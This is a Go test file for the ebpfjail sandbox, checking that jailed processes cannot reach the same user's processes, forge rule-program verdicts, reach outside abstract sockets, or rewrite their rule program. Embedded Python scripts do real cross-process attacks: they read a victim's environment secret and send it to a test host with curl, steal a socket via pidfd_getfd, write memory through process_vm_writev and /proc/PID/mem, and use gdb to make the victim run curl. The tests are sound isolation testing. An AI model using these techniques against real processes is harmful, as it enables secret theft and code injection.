package tests

import (
	"bufio"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/ebpfjail/ebpfjail/internal/testutil"
)

// The jailed user's processes outside the jail, and ebpfjail's rule
// programs, must be out of the jail's reach: no ptrace, no memory access,
// no descriptors taken, no environment read, no signals, no abstract unix
// sockets bound outside. Each attempt is judged by what arrived at a
// recording host or listener, and each has a control: the same attempt by
// the same user outside the jail gets through.

const nobodyUID = 65534

var nobodyCred = &syscall.Credential{Uid: nobodyUID, Gid: nobodyUID}

// jailIsolated reports whether this kernel has the Landlock layer.
func jailIsolated(t *testing.T) bool {
	t.Helper()
	v, _, errno := unix.Syscall(unix.SYS_LANDLOCK_CREATE_RULESET, 0, 0, unix.LANDLOCK_CREATE_RULESET_VERSION)
	if errno != 0 || v < 1 {
		t.Logf("no Landlock (%v): the isolation layer cannot hold here", errno)
		return false
	}
	return true
}

// streamRecorder keeps every byte every connection to it carries.
type streamRecorder struct {
	mu    sync.Mutex
	conns int
	got   []byte
}

func (sr *streamRecorder) serve(t *testing.T, ln net.Listener) {
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			sr.mu.Lock()
			sr.conns++
			sr.mu.Unlock()
			t.Cleanup(func() { c.Close() })
			go func() {
				buf := make([]byte, 4096)
				for {
					n, err := c.Read(buf)
					sr.mu.Lock()
					sr.got = append(sr.got, buf[:n]...)
					sr.mu.Unlock()
					if err != nil {
						return
					}
				}
			}()
		}
	}()
}

func (sr *streamRecorder) bytes() string {
	sr.mu.Lock()
	defer sr.mu.Unlock()
	return string(sr.got)
}

func (sr *streamRecorder) connections() int {
	sr.mu.Lock()
	defer sr.mu.Unlock()
	return sr.conns
}

// victimScript holds a connection to the recorder open, keeps a secret in
// its environment, and sends its buffer down the connection whenever
// someone else changed it.
const victimScript = `import ctypes, os, socket, sys, time
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
buf = ctypes.create_string_buffer(64)
buf.value = b"idle"
print(os.getpid(), ctypes.addressof(buf), s.fileno(), flush=True)
while True:
    if buf.value != b"idle":
        s.sendall(buf.value + b"\n")
        buf.value = b"idle"
    time.sleep(0.05)
`

// reachScript tries every way into another process of the same user: read
// its environment (and send the secret to the allowed /env/ path), take its
// socket with pidfd_getfd, write its memory with process_vm_writev and
// through /proc/PID/mem, make it run curl with gdb, and kill it.
const reachScript = `import ctypes, os, signal, subprocess, sys, time
pid, addr, fd, ip = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
libc = ctypes.CDLL(None, use_errno=True)
def fail(what, e): print(what, "failed:", e, flush=True)
secret = "none"
try:
    for e in open("/proc/%d/environ" % pid, "rb").read().split(b"\0"):
        if e.startswith(b"VICTIM_SECRET="): secret = e.split(b"=", 1)[1].decode()
except OSError as e: fail("environ", e)
subprocess.run(["curl", "-s", "-o", "/dev/null", "http://%s/env/%s" % (ip, secret)])
try:
    n = libc.syscall(438, os.pidfd_open(pid), fd, 0)
    if n < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    os.write(n, b"pidfd-getfd\n")
except OSError as e: fail("pidfd_getfd", e)
class iovec(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
data = ctypes.create_string_buffer(b"vm-writev")
local, remote = iovec(ctypes.addressof(data), 10), iovec(addr, 10)
if libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) < 0:
    fail("process_vm_writev", os.strerror(ctypes.get_errno()))
time.sleep(0.5)
try:
    with open("/proc/%d/mem" % pid, "r+b", buffering=0) as m:
        m.seek(addr); m.write(b"proc-mem\0")
except OSError as e: fail("/proc/pid/mem", e)
time.sleep(0.5)
g = subprocess.run(["gdb", "-q", "-nx", "-p", str(pid), "-batch", "-ex",
    'call (int)system("curl -s -o /dev/null http://%s/gdb-system")' % ip],
    stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=120)
print("gdb:", g.stdout.decode(errors="replace").strip().splitlines()[-1:], flush=True)
time.sleep(0.3)
try: os.kill(pid, signal.SIGKILL)
except OSError as e: fail("kill", e)
`

// victim is an unjailed process of the jailed user.
type victim struct {
	cmd        *exec.Cmd
	pid        int
	addr, sock string
}

func startVictim(t *testing.T, py, script, ip string, port int, secret string) *victim {
	t.Helper()
	cmd := exec.Command(py, "-c", script, ip, strconv.Itoa(port))
	cmd.Env = []string{"PATH=/usr/bin:/bin", "VICTIM_SECRET=" + secret}
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: nobodyCred, Setpgid: true}
	cmd.Stderr = os.Stderr
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatalf("start victim: %v", err)
	}
	v := &victim{cmd: cmd, pid: cmd.Process.Pid}
	exited := make(chan struct{})
	go func() { cmd.Wait(); close(exited) }()
	t.Cleanup(func() {
		syscall.Kill(v.pid, syscall.SIGKILL)
		<-exited
	})
	line, err := bufio.NewReader(out).ReadString('\n')
	f := strings.Fields(line)
	if err != nil || len(f) != 3 {
		t.Fatalf("victim said %q (%v)", line, err)
	}
	v.addr, v.sock = f[1], f[2]
	return v
}

// alive reports whether the victim still runs (a zombie counts as dead).
func (v *victim) alive() bool {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", v.pid))
	if err != nil {
		return false
	}
	s := string(b)
	i := strings.LastIndexByte(s, ')')
	return i > 0 && len(s) > i+2 && s[i+2] != 'Z'
}

// asNobody runs args outside any jail as the jailed user.
func asNobody(t *testing.T, args ...string) string {
	t.Helper()
	cmd := exec.Command(args[0], args[1:]...)
	cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=/"}
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: nobodyCred}
	out, _ := cmd.CombinedOutput()
	return string(out)
}

func writeShared(t *testing.T, dir, name, body string, mode os.FileMode) string {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.WriteFile(p, []byte(body), mode); err != nil {
		t.Fatal(err)
	}
	os.Chmod(p, mode)
	return p
}

func TestPrivilegedJailCannotReachTheUsersProcessesOutsideIt(t *testing.T) {
	testutil.RequireRoot(t)
	requireTool(t, "gdb")
	requireTool(t, "curl")
	py := python(t)
	h := testutil.NewHost(t)
	h.ServeHTTP(t, 80)
	const port = 7000
	ip := h.IPv4.String()
	dir := sharedDir(t)
	reach := writeShared(t, dir, "reach.py", reachScript, 0o644)
	// The rule lets the jail send to /env/ only: the environment attempt
	// has a way out for what it read.
	rule := "r.path.startsWith('/env/')"

	type outcome struct {
		streamed, requests string
		alive              bool
		out                string
	}
	attempt := func(t *testing.T, jailed bool) outcome {
		sr := &streamRecorder{}
		sr.serve(t, h.Listen(t, "tcp", fmt.Sprintf("[::]:%d", port)))
		secret := fmt.Sprintf("secret%d", time.Now().UnixNano())
		v := startVictim(t, py, victimScript, ip, port, secret)
		before := len(h.Requests())
		args := []string{py, reach, strconv.Itoa(v.pid), v.addr, v.sock, ip}
		var out string
		if jailed {
			r := jail(t, runOpts{timeout: 3 * time.Minute}, append([]string{"-v", "--user", "nobody", "--js", rule, "--"}, args...)...)
			out = r.String()
		} else {
			out = asNobody(t, args...)
		}
		time.Sleep(500 * time.Millisecond) // the victim polls every 50 ms
		reqs := strings.Join(h.Requests()[before:], "\n")
		o := outcome{streamed: sr.bytes(), requests: reqs, alive: v.alive(), out: out}
		if !strings.Contains(reqs, "/env/") {
			t.Fatalf("the /env/ request did not arrive (got %q): the run proves nothing\n%s", reqs, out)
		}
		o.requests = strings.ReplaceAll(reqs, secret, "SECRET")
		return o
	}

	t.Run("control-outside-the-jail", func(t *testing.T) {
		o := attempt(t, false)
		for _, want := range []string{"pidfd-getfd", "vm-writev", "proc-mem"} {
			if !strings.Contains(o.streamed, want) {
				t.Errorf("recorder got %q, want %q in it: the control failed\n%s", o.streamed, want, o.out)
			}
		}
		for _, want := range []string{"/env/SECRET", "/gdb-system"} {
			if !strings.Contains(o.requests, want) {
				t.Errorf("host got requests %q, want %q: the control failed\n%s", o.requests, want, o.out)
			}
		}
		if o.alive {
			t.Errorf("victim alive after kill outside the jail: the control failed\n%s", o.out)
		}
	})
	t.Run("jailed", func(t *testing.T) {
		o := attempt(t, true)
		if o.streamed != "" {
			t.Errorf("recorder got %q from the victim's socket, want nothing (pidfd_getfd, process_vm_writev, /proc/PID/mem)\n%s", o.streamed, o.out)
		}
		for _, bad := range []string{"/env/SECRET", "/gdb-system"} {
			if strings.Contains(o.requests, bad) {
				t.Errorf("host got requests %q, want no %q (environ, gdb)\n%s", o.requests, bad, o.out)
			}
		}
		if !o.alive {
			t.Errorf("victim killed from inside the jail, want it alive\n%s", o.out)
		}
	})
	noJailsLeft(t)
}

// forgeScript takes fd 1 (the verdict pipe) of every child of ebpfjail but
// the jailed shell, and writes allow verdicts into it.
const forgeScript = `import ctypes, os, sys
sup, skip = int(sys.argv[1]), int(sys.argv[2])
libc = ctypes.CDLL(None, use_errno=True)
forged = 0
for d in os.listdir("/proc"):
    if not d.isdigit() or int(d) == skip: continue
    try: st = open("/proc/%s/status" % d).read()
    except OSError: continue
    if "\nPPid:\t%d\n" % sup not in st: continue
    try:
        n = libc.syscall(438, os.pidfd_open(int(d)), 1, 0)
        if n < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        os.write(n, b"true\n" * 8); forged += 1
    except OSError as e: print("pid", d, "failed:", e, flush=True)
print("forged", forged, flush=True)
`

func TestPrivilegedJailCannotForgeTheRuleProgramsVerdict(t *testing.T) {
	testutil.RequireRoot(t)
	requireTool(t, "curl")
	py := python(t)
	h := testutil.NewHost(t)
	h.ServeHTTP(t, 80)
	ip := h.IPv4.String()
	dir := sharedDir(t)
	rule := writeShared(t, dir, "verdict-rule.sh", "#!/bin/sh\nwhile read l; do echo false; done\n", 0o755)
	forge := writeShared(t, dir, "forge.py", forgeScript, 0o644)

	for _, jailed := range []bool{false, true} {
		name := map[bool]string{false: "control-outside-the-jail", true: "jailed"}[jailed]
		t.Run(name, func(t *testing.T) {
			path := "/forged-" + name
			ids, done := filepath.Join(dir, name+".ids"), filepath.Join(dir, name+".done")
			// The jailed shell tells where ebpfjail is, lets the forger run
			// (inside, or outside as the same user), then asks.
			script := fmt.Sprintf(`echo "$PPID $$" > %s
if [ -n "$FORGE_INSIDE" ]; then %s %s $PPID $$; touch %s; fi
i=0; while [ ! -e %s ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done
curl -sS -m 30 -o /dev/null -w "%%{http_code}\n" http://%s%s`, ids, py, forge, done, done, ip, path)
			env := []string{}
			if jailed {
				env = append(env, "FORGE_INSIDE=1")
			}
			var forgeOut string
			var wg sync.WaitGroup
			if !jailed {
				wg.Add(1)
				go func() {
					defer wg.Done()
					deadline := time.Now().Add(time.Minute)
					var f []string
					for time.Now().Before(deadline) {
						b, _ := os.ReadFile(ids)
						if f = strings.Fields(string(b)); len(f) == 2 {
							break
						}
						time.Sleep(50 * time.Millisecond)
					}
					if len(f) == 2 {
						forgeOut = asNobody(t, py, forge, f[0], f[1])
					}
					os.WriteFile(done, nil, 0o644)
				}()
			}
			r := jail(t, runOpts{env: env, timeout: 2 * time.Minute},
				"-v", "--user", "nobody", "--proc", rule, "--", "sh", "-c", script)
			wg.Wait()
			got := 0
			for _, req := range h.Requests() {
				if strings.HasSuffix(req, path) {
					got++
				}
			}
			if jailed && got != 0 {
				t.Errorf("host got %d requests for %s, want 0: the jail forged the rule program's verdict\n%s", got, path, r)
			}
			if !jailed && got == 0 {
				t.Errorf("host got no request for %s: the forged verdict did not work outside the jail, the control failed\nforger: %s\n%s", path, forgeOut, r)
			}
		})
	}
	noJailsLeft(t)
}

// abstractListener records connections to a unique abstract unix name.
func abstractListener(t *testing.T) (string, *streamRecorder) {
	t.Helper()
	name := fmt.Sprintf("@ebpfjail-test-%d-%d", os.Getpid(), time.Now().UnixNano())
	ln, err := net.Listen("unix", name)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	sr := &streamRecorder{}
	sr.serve(t, ln)
	return name, sr
}

// abstractClient connects to each abstract name of its arguments in turn.
const abstractClient = `import socket, sys, errno
for name in sys.argv[1:]:
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect("\0" + name[1:]); s.sendall(b"reached\n"); print("connected")
    except OSError as e:
        print(errno.errorcode.get(e.errno, e.errno))`

// Both ends inside the jail, in two processes.
const abstractPair = `import os, socket, sys, time
name = "\0ebpfjail-own-%d" % os.getpid()
srv = socket.socket(socket.AF_UNIX); srv.bind(name); srv.listen(1)
if os.fork() == 0:
    c = socket.socket(socket.AF_UNIX); c.connect(name); c.sendall(b"pair-ok"); os._exit(0)
conn, _ = srv.accept(); print(conn.recv(20).decode()); os.wait()`

func TestPrivilegedJailCannotReachAbstractSocketsBoundOutside(t *testing.T) {
	testutil.RequireRoot(t)
	py := python(t)
	name, sr := abstractListener(t)

	out := asNobody(t, py, "-c", abstractClient, name)
	if !strings.Contains(out, "connected") || sr.connections() != 1 {
		t.Fatalf("control outside the jail: client said %q, listener saw %d connections, want 1", out, sr.connections())
	}
	r := jail(t, runOpts{}, "--user", "nobody", "--", py, "-c", abstractClient, name)
	if n := sr.connections(); n != 1 {
		t.Errorf("jailed connect: the listener saw %d more connection(s), want none (client said %q)", n-1, r.stdout)
	}
	// --allow-unix opens the one name it lists, not every abstract
	// socket bound outside.
	other, otherRec := abstractListener(t)
	r = jail(t, runOpts{}, "-v", "--user", "nobody", "--allow-unix", name, "--", py, "-c", abstractClient, name, other)
	if n := sr.connections(); n != 2 {
		t.Errorf("with --allow-unix %s: the listener saw %d new connection(s), want 1 (client said %q)\n%s", name, n-1, r.stdout, r)
	}
	if n := otherRec.connections(); n != 0 {
		t.Errorf("with --allow-unix %s: the unlisted %s saw %d connection(s), want 0 (client said %q)\n%s", name, other, n, r.stdout, r)
	}
	contains(t, "-v says abstract sockets are decided by name", r.stderr, "abstract unix sockets by name")
	r = jail(t, runOpts{}, "--user", "nobody", "--", py, "-c", abstractPair)
	contains(t, "the jail's own abstract socket", r.stdout, "pair-ok")
	if got := sr.bytes(); got != "reached\nreached\n" {
		t.Errorf("listener got %q, want the control's and the --allow-unix run's", got)
	}
	noJailsLeft(t)
}

func TestPrivilegedGdbWorksOnTheJailsOwnProcesses(t *testing.T) {
	testutil.RequireRoot(t)
	requireTool(t, "gdb")
	script := `sleep 60 & p=$!
gdb -q -nx -p $p -batch -ex 'call (int)getpid()' 2>&1 | grep '^\$1 = '
echo "want \$1 = $p"; kill $p`
	r := jail(t, runOpts{timeout: 2 * time.Minute}, "--user", "nobody", "--", "sh", "-c", script)
	lines := strings.Split(strings.TrimSpace(r.stdout), "\n")
	if len(lines) != 2 || "want "+lines[0] != lines[1] {
		t.Errorf("gdb inside the jail: got %q, want the attached process's pid from getpid()\n%s", r.stdout, r)
	}
	noJailsLeft(t)
}

// The jailed user may own the rule program's file (here: its directory is
// writable to everyone) and rewrite it; what runs stays what was named at
// start. The --proc program answers once and exits, so each request
// restarts it.
func TestPrivilegedJailCannotRewriteItsRuleProgram(t *testing.T) {
	testutil.RequireRoot(t)
	requireTool(t, "curl")
	h := testutil.NewHost(t)
	h.ServeHTTP(t, 80)
	ip := h.IPv4.String()
	for _, tc := range []struct{ flag, body string }{
		{"--sh", `test "$HTTPJAIL_PATH" = /first-sh`},
		{"--proc", `read l; case "$l" in *'"path":"/first-proc"'*) echo true ;; *) echo false ;; esac`},
	} {
		t.Run(tc.flag, func(t *testing.T) {
			dir := sharedDir(t)
			name := strings.TrimPrefix(tc.flag, "--")
			rule := writeShared(t, dir, "rule.sh", "#!/bin/sh\n"+tc.body+"\n", 0o755)
			script := fmt.Sprintf(`curl -sS -o /dev/null -w "first %%{http_code}\n" http://%[1]s/first-%[2]s
curl -sS -o /dev/null -w "before %%{http_code}\n" http://%[1]s/second-%[2]s
printf '#!/bin/sh\nwhile read l; do echo true; done; exit 0\n' > %[3]s.new && chmod 755 %[3]s.new && mv -f %[3]s.new %[3]s
curl -sS -o /dev/null -w "after %%{http_code}\n" http://%[1]s/second-%[2]s`, ip, name, rule)
			r := jail(t, runOpts{timeout: 2 * time.Minute}, "-v", "--user", "nobody", tc.flag, rule, "--", "sh", "-c", script)
			if b, _ := os.ReadFile(rule); !strings.Contains(string(b), "echo true") {
				t.Fatalf("the jailed command did not rewrite %s (it holds %q): the test proves nothing\n%s", rule, b, r)
			}
			var first, second int
			for _, req := range h.Requests() {
				switch {
				case strings.HasSuffix(req, "/first-"+name):
					first++
				case strings.HasSuffix(req, "/second-"+name):
					second++
				}
			}
			if first != 1 {
				t.Errorf("host got %d requests for /first-%s, want 1 (the rule named at start allows it)\n%s", first, name, r)
			}
			if second != 0 {
				t.Errorf("host got %d requests for /second-%s, want 0: the rewritten rule program decided\n%s", second, name, r)
			}
		})
	}
	noJailsLeft(t)
}
